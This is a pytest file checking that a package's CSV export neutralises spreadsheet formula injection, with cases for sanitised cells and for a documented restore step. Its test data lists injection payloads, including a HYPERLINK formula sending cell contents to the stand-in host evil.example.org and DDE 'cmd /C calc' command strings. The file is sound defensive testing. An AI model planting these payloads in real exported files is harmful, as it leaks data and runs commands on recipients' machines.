"""Names in CSV that a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

from cvtrace.analysis.report.tables import _csv

DOCS = Path(__file__).resolve().parents[2] / "docs" / "exports.md"
FORMULAS = (
    '=HYPERLINK("http://evil.example.org/?"&A1;"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "'=1+1",
    "/cvmfs/x;=1+1",
    "/cvmfs/x; =1+1;+2;@A1",
    'a";=1+1',
    "-",
    "=",
)
HARMLESS = ("/cvmfs/x/model.onnx", "a=b", "x-y", "ann@host", "", "it's", "a;b", '["qa.py", "-g"]')
STARTS = re.compile(r"(?:^|;)\s*[=+\-@\t\r＝＋－＠]")


def write_table(path: Path, words: list[str], *, as_names: bool) -> Path:
    text: pa.Array = pa.array(words)
    if as_names:
        text = pa.DictionaryArray.from_arrays(pa.array(np.arange(len(words), dtype=np.int32)), text)
    numbers = pa.array(np.arange(len(words)) * -1.5)
    with path.open("wb") as stream:
        _csv(pa.table({"text": text, "number": numbers, "yes": pa.array([True] * len(words))}), stream)
    return path


@pytest.mark.parametrize("as_names", [False, True])
def test_no_cell_is_a_formula(tmp_path, as_names):
    """`=HYPERLINK(…)` stood as it was; a click sent what the sheet holds to somebody else."""
    path = write_table(tmp_path / "x.csv", [*FORMULAS, *HARMLESS], as_names=as_names)
    for delimiter in ",;":  # as spreadsheets of different countries part cells
        with path.open(newline="", encoding="utf-8") as file:
            for row in csv.reader(file, delimiter=delimiter):
                for cell in row:
                    assert not STARTS.search(cell) or re.fullmatch(r"-?[\d.]+", cell), row


def test_cells_that_are_not_formulas_are_unchanged(tmp_path):
    frame = pd.read_csv(write_table(tmp_path / "x.csv", list(HARMLESS), as_names=False), keep_default_na=False)
    assert frame["text"].tolist() == list(HARMLESS)
    assert frame["number"].tolist() == [number * -1.5 for number in range(len(HARMLESS))]
    assert frame["yes"].tolist() == [True] * len(HARMLESS)


def test_the_command_of_the_documentation_restores_the_names(tmp_path):
    """GIVEN names with and without apostrophes of their own THEN pandas has what Parquet has."""
    line = re.search(r"^    (frame = frame\.replace\(.*\))$", DOCS.read_text(), re.MULTILINE)
    assert line
    frame = pd.read_csv(write_table(tmp_path / "x.csv", [*FORMULAS, *HARMLESS], as_names=True), keep_default_na=False)
    names = {"frame": frame}
    exec(line[1], names)
    assert names["frame"]["text"].tolist() == [*FORMULAS, *HARMLESS]
